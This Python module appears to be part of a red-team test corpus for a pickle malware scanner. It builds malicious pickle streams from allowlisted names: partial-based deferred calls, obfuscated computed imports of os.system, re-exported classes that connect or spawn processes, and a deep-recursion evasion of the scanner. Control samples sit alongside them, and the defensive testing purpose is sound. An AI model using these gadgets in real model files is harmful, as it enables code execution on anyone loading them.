"""Round four, pickle level: gadgets made only of allowlisted names, and VM evasions.

Three families the allowlist itself let through (no finding at all before the fix):

* **deferred calls** — ``functools.partial`` binds ``numpy.memmap(path, mode='w+')`` (creates the
  canary) or an importer; the bound rt.call fires later, or while loading through another allowlisted
  object: ``dict(ChainMap(defaultdict(factory), {'k': 1}))`` calls the factory for a key only the
  ChainMap knows, pandas ``DataFrame.__setitem__`` calls a callable key, tensor hooks are called
  on backward;
* **computed imports** — numpy 1.x's ``_ufunc_reconstruct(module, name)`` is
  ``getattr(__import__(module), name)``: with names the VM cannot read as constants
  (``numpy.str_('os')``, ``str(b'...', 'cp037')``) it imports ``os.system``, which
  ``numpy.random._pickle.__randomstate_ctor(cmd, ctor)`` then calls;
* **re-exports** — a class pattern (CamelCase in an ``sklearn``/``scipy.stats``/``xgboost.sklearn``
  module) vouched for names those modules only import: ``sklearn.calibration.Parallel`` (joblib),
  ``sklearn.callback._transport.Client`` (multiprocessing: connects on construction),
  ``scipy.stats._mgc.MapWrapper`` (starts a process pool), ``xgboost.sklearn.DMatrix`` (reads a
  file path); and the boosters, safe to reconstruct but not to rt.call (``Booster(model_file=...)``).

Plus one VM evasion: 20,000 nested ``partial(partial(...))`` (CPython flattens them as it builds
them) sent the VM's recursive rt.call into ``RecursionError``, a medium "malformed" that hid the
``os.system`` after it.
"""

from __future__ import annotations

import io
import pickle
from functools import partial
from pathlib import Path

from tests.scan.redteam import build as rt

_LEADS: dict[str, tuple[str, bytes]] = {
    "newtrue": ("NEWTRUE (0x88)", b"\x880"),
    "short_binbytes": ("SHORT_BINBYTES", b"C\x01x0"),
    "short_binunicode": ("SHORT_BINUNICODE (0x8c)", b"\x8c\x01x0"),
    "long1": ("LONG1 (0x8a)", b"\x8a\x01\x010"),
    "empty_set": ("EMPTY_SET (0x8f)", b"\x8f0"),
    "frame": ("an empty FRAME (0x95)", b"\x95" + bytes(8)),
}
"""Opcodes of protocols 2-5 that pickle.load/torch.load/joblib.load accept as the first opcode of
a stream without a PROTO header (the C unpickler does not gate opcodes by protocol)."""

GAPS: dict[str, str] = {}
"""Sample id → the scanner gap it shows today (measured; the test is a strict xfail)."""


def _memmap_partial(canary: Path) -> bytes:
    """``partial(numpy.memmap, canary, 'uint8', 'w+', 0, (8,))``: calling it creates the canary."""
    return rt.call(rt.g("functools", "partial"), rt.g("numpy", "memmap"), rt.s(str(canary)),
                   rt.s("uint8"), rt.s("w+"), rt.i(0), rt.tup(rt.i(8)))


def _chainmap_of_factory(factory: bytes) -> bytes:
    """``ChainMap(defaultdict(factory), {'k': 1})``: reading key ``k`` through the ChainMap asks the
    defaultdict first, whose missing key calls ``factory()``."""
    return rt.call(rt.g("collections", "ChainMap"),
                   rt.call(rt.g("collections", "defaultdict"), factory),
                   rt.EMPTY_DICT + rt.s("k") + rt.i(1) + rt.SETITEM)


def _np_str(text: str) -> bytes:
    return rt.call(rt.g("numpy", "str_"), rt.s(text))


def _cp037_str(text: str) -> bytes:
    raw = text.encode("cp037")
    return rt.call(rt.g("builtins", "str"), b"C" + bytes([len(raw)]) + raw, rt.s("cp037"))


def _computed_import(module: bytes, name: bytes) -> bytes:
    return rt.call(rt.g("numpy.core", "_ufunc_reconstruct"), module, name)


def _deep_partials(depth: int) -> bytes:
    out = rt.g("numpy", "mean")
    for _ in range(depth):
        out = rt.g("functools", "partial") + rt.MARK + out + rt.TUPLE + rt.REDUCE
    return out


def _malicious(canary: Path) -> dict[str, tuple[str, bytes]]:
    cmd = rt.shell(canary)
    system = _computed_import(_np_str("os"), _np_str("system"))
    return {
        "chainmap_defaultdict_partial_memmap": (
            "dict(ChainMap(defaultdict(partial(numpy.memmap, path, mode w+)), {k: 1})): the "
            "factory runs while loading, every name allowlisted",
            rt.proto(2) + rt.call(rt.g("builtins", "dict"), _chainmap_of_factory(_memmap_partial(canary)))
            + rt.STOP),
        "counter_chainmap_defaultdict_partial_memmap": (
            "collections.Counter(ChainMap(defaultdict(partial(numpy.memmap, ...)), {k: 1}))",
            rt.proto(2) + rt.call(rt.g("collections", "Counter"),
                            _chainmap_of_factory(_memmap_partial(canary))) + rt.STOP),
        "defaultdict_partial_memmap_carried": (
            "defaultdict whose factory is partial(numpy.memmap, path, mode w+): the first missing "
            "key creates the file",
            rt.proto(2) + rt.call(rt.g("collections", "defaultdict"), _memmap_partial(canary)) + rt.STOP),
        "dataframe_setitem_callable_key": (
            "SETITEM on a pandas DataFrame with a partial(numpy.memmap, ...) key: pandas calls a "
            "callable key with the frame (com.apply_if_callable)",
            rt.proto(2) + rt.g("pandas", "DataFrame") + rt.EMPTY_TUPLE + rt.NEWOBJ + _memmap_partial(canary)
            + rt.i(1) + rt.SETITEM + rt.STOP),
        "tensor_backward_hook_partial_memmap": (
            "torch._utils._rebuild_tensor_v2 with a backward-hook dict holding partial(numpy.memmap)",
            rt.proto(2) + rt.call(rt.g("torch._utils", "_rebuild_tensor_v2"), rt.NONE, rt.i(0),
                                  rt.tup(), rt.tup(), b"\x89", rt.call(rt.g("collections", "OrderedDict"))
                            + rt.i(0) + _memmap_partial(canary) + rt.SETITEM) + rt.STOP),
        "ufunc_reconstruct_numpy_str_randomstate_ctor": (
            "numpy.core._ufunc_reconstruct(numpy.str_('os'), numpy.str_('system')) called by "
            "numpy.random._pickle.__randomstate_ctor(cmd, ctor)",
            rt.proto(2) + rt.call(rt.g("numpy.random._pickle", "__randomstate_ctor"), rt.s(cmd), system)
            + rt.STOP),
        "ufunc_reconstruct_cp037_generator_ctor": (
            "_ufunc_reconstruct of names decoded from EBCDIC bytes by builtins.str(b, 'cp037'), "
            "called by numpy.random._pickle.__generator_ctor(cmd, ctor)",
            rt.proto(2) + rt.call(rt.g("numpy.random._pickle", "__generator_ctor"), rt.s(cmd),
                            _computed_import(_cp037_str("os"), _cp037_str("system"))) + rt.STOP),
        "ufunc_reconstruct_as_factory": (
            "numpy.core._ufunc_reconstruct handed over as a defaultdict factory (an importer the "
            "holder calls with its own arguments)",
            rt.proto(2) + rt.call(rt.g("collections", "defaultdict"),
                                  rt.g("numpy.core", "_ufunc_reconstruct")) + rt.STOP),
        "ufunc_reconstruct_partial_one_name": (
            "partial(_ufunc_reconstruct, numpy.str_('os')) called by __randomstate_ctor('system', "
            "…) imports os.system",
            rt.proto(2) + rt.call(rt.g("numpy.random._pickle", "__randomstate_ctor"), rt.s("system"),
                            rt.call(rt.g("functools", "partial"), rt.g("numpy.core", "_ufunc_reconstruct"),
                                 _np_str("os"))) + rt.STOP),
        "reexport_sklearn_parallel": (
            "sklearn.calibration.Parallel: joblib's Parallel re-exported under an sklearn module",
            rt.proto(2) + rt.call(rt.g("sklearn.calibration", "Parallel"), rt.i(2)) + rt.STOP),
        "reexport_sklearn_transport_client": (
            "sklearn.callback._transport.Client((host, port)): multiprocessing.connection.Client "
            "connects while loading",
            rt.proto(2) + rt.call(rt.g("sklearn.callback._transport", "Client"),
                            rt.tup(rt.s("127.0.0.1"), rt.i(9))) + rt.STOP),
        "reexport_scipy_mapwrapper": (
            "scipy.stats._mgc.MapWrapper(4): starts a multiprocessing pool while loading",
            rt.proto(2) + rt.call(rt.g("scipy.stats._mgc", "MapWrapper"), rt.i(4)) + rt.STOP),
        "reexport_xgboost_dmatrix": (
            "xgboost.sklearn.DMatrix(path): xgboost.core.DMatrix reads a data file by path",
            rt.proto(2) + rt.call(rt.g("xgboost.sklearn", "DMatrix"), rt.s(str(canary))) + rt.STOP),
        "xgboost_booster_model_file": (
            "xgboost.core.Booster(None, None, path) called: reads any file as a model "
            "(real pickles only reconstruct it: NEWOBJ + BUILD)",
            rt.proto(2) + rt.call(rt.g("xgboost.core", "Booster"), rt.NONE, rt.NONE,
                                  rt.s(str(canary))) + rt.STOP),
        "lightgbm_booster_params": (
            "lightgbm.basic.Booster(params={machines: ...}, model_file=path) called",
            rt.proto(2) + rt.call(rt.g("lightgbm.basic", "Booster"),
                            rt.EMPTY_DICT + rt.s("machines") + rt.s("127.0.0.1:9") + rt.SETITEM, rt.NONE,
                            rt.s(str(canary))) + rt.STOP),
        "stdlib_class_plain_newobj": (
            "wave.Wave_write rebuilt like a saved instance (NEWOBJ, BUILD): a stdlib class with a "
            "__del__ that writes to its file object, on the medium path of user model classes",
            rt.proto(2) + rt.g("wave", "Wave_write") + rt.EMPTY_TUPLE + rt.NEWOBJ + rt.EMPTY_DICT
            + rt.s("_file") + rt.NONE + rt.SETITEM + rt.s("_i_opened_the_file") + rt.NONE
            + rt.SETITEM + rt.BUILD + rt.STOP),
        "double_build_unvetted_class": (
            "unvetted class rebuilt by NEWOBJ then two BUILDs (the first state feeds the second "
            "BUILD's __setstate__ lookup through a forwarding __getattr__)",
            rt.proto(2) + rt.g("mylib.io", "Forwarder") + rt.EMPTY_TUPLE + rt.NEWOBJ
            + rt.EMPTY_DICT + rt.s("stream") + rt.s(str(canary)) + rt.SETITEM + rt.BUILD
            + rt.EMPTY_DICT + rt.s("mode") + rt.s("w") + rt.SETITEM + rt.BUILD + rt.STOP),
        "parameter_with_state_dunder": (
            "torch._utils._rebuild_parameter_with_state with a state setting __setstate__ "
            "(setattr of every key, like BUILD)",
            rt.proto(2) + rt.call(rt.g("torch._utils", "_rebuild_parameter_with_state"), rt.NONE,
                                  b"\x89", rt.call(rt.g("collections", "OrderedDict")),
                                  rt.EMPTY_DICT + rt.s("__setstate__") + rt.g("numpy", "mean")
                                  + rt.SETITEM) + rt.STOP),
        "partial_of_5000_partials_then_payload": (
            "partial(partial, partial, ... 5000 ..., numpy.mean) built (CPython builds it without "
            "calling anything; judging each held call recursively overflowed), then os.system",
            rt.proto(2) + rt.g("functools", "partial") + rt.MARK
            + rt.g("functools", "partial") * 5000 + rt.g("numpy", "mean") + rt.TUPLE + rt.REDUCE
            + rt.POP + rt.call(rt.g("os", "system"), rt.s(cmd)) + rt.STOP),
        **{f"lead_{key}": (
            f"stream without PROTO that starts with {what}, then a protocol-0 os.system call",
            lead + rt.g("os", "system") + rt.MARK + b"S" + repr(cmd).encode() + b"\n" + rt.TUPLE
            + rt.REDUCE + rt.STOP) for key, (what, lead) in _LEADS.items()},
        "sklearn_alias_of_partial": (
            "sklearn.metrics._scorer.partial (functools.partial imported into an allowlisted "
            "function module) binding numpy.memmap, fired by dict(ChainMap(defaultdict(...)))",
            rt.proto(2) + rt.call(rt.g("builtins", "dict"), _chainmap_of_factory(
                rt.call(rt.g("sklearn.metrics._scorer", "partial"), rt.g("numpy", "memmap"),
                        rt.s(str(canary)), rt.s("uint8"), rt.s("w+"), rt.i(0), rt.tup(rt.i(8)))))
            + rt.STOP),
        "reconstructor_partial_then_build": (
            "copyreg._reconstructor(partial, partial, numpy.memmap) is partial(numpy.memmap); "
            "BUILD binds (path, 'uint8', 'w+', 0, (8,)); fired by dict(ChainMap(defaultdict(...)))",
            rt.proto(2) + rt.call(rt.g("builtins", "dict"), _chainmap_of_factory(
                rt.call(rt.g("copyreg", "_reconstructor"), rt.g("functools", "partial"),
                        rt.g("functools", "partial"), rt.g("numpy", "memmap"))
                + rt.tup(rt.g("numpy", "memmap"), rt.tup(rt.s(str(canary)), rt.s("uint8"),
                                                         rt.s("w+"), rt.i(0), rt.tup(rt.i(8))),
                         rt.EMPTY_DICT, rt.NONE) + rt.BUILD)) + rt.STOP),
        "deep_partial_nesting_then_payload": (
            "20,000 nested partial(partial(...(numpy.mean))) called (CPython flattens them; a "
            "recursive VM overflows), then os.system",
            rt.proto(2) + _deep_partials(20_000) + rt.EMPTY_TUPLE + rt.REDUCE + rt.POP
            + rt.call(rt.g("os", "system"), rt.s(cmd)) + rt.STOP),
    }


def _benign_partials(_: Path) -> bytes:
    """Estimator parameters that are partials of pure numpy functions (real pickler)."""
    import numpy as np

    return pickle.dumps({"pooling": partial(np.mean, axis=0),
                         "nested": partial(partial(np.percentile, q=50), axis=1),
                         "agg": [np.add, np.maximum]}, protocol=4)


def _benign_partials_p2(c: Path) -> bytes:
    import numpy as np

    return pickle.dumps({"pooling": partial(np.median, axis=0), "ufunc": np.add}, protocol=2)


def _benign_ufunc_reconstruct(_: Path) -> bytes:
    """numpy < 1.20 pickled ufuncs as ``_ufunc_reconstruct('numpy', name)`` (constant names)."""
    return (rt.proto(2) + rt.EMPTY_DICT + rt.s("f") + _computed_import(rt.s("numpy"), rt.s("add"))
            + rt.SETITEM + rt.s("g")
            + rt.call(rt.g("numpy.core", "_ufunc_reconstruct"), rt.s("numpy"), rt.s("exp"))
            + rt.SETITEM + rt.STOP)


def _benign_rng(_: Path) -> bytes:
    import numpy as np

    buf = io.BytesIO()
    pickle.dump({"legacy": np.random.RandomState(0), "gen": np.random.default_rng(1),
                 "pcg": np.random.Generator(np.random.PCG64DXSM(2)),
                 "seq": np.random.SeedSequence(3)}, buf, protocol=4)
    return buf.getvalue()


def round4_pickle_cases() -> list[rt.Case]:
    out: list[rt.Case] = []
    for key, (technique, _) in _malicious(Path("/x")).items():
        def data(canary: Path, key: str = key) -> bytes:
            return _malicious(canary)[key][1]
        out.append(rt.file_case(f"pickle4-{key}", "malicious", technique, f"{key}.pkl", data,
                             GAPS.get(f"pickle4-{key}")))
    for key, technique, builder in (
            ("partials_of_numpy", "functools.partial of numpy functions (protocol 4)",
             _benign_partials),
            ("partials_of_numpy_p2", "functools.partial of numpy functions (protocol 2)",
             _benign_partials_p2),
            ("ufunc_reconstruct_constant", "numpy 1.x _ufunc_reconstruct('numpy', 'add')",
             _benign_ufunc_reconstruct),
            ("numpy_rng_states", "numpy RandomState, Generator (MT19937, PCG64DXSM), SeedSequence",
             _benign_rng)):
        out.append(rt.file_case(f"benign-pickle4-{key}", "benign", technique, f"{key}.pkl", builder,
                             GAPS.get(f"benign-pickle4-{key}")))
    return out
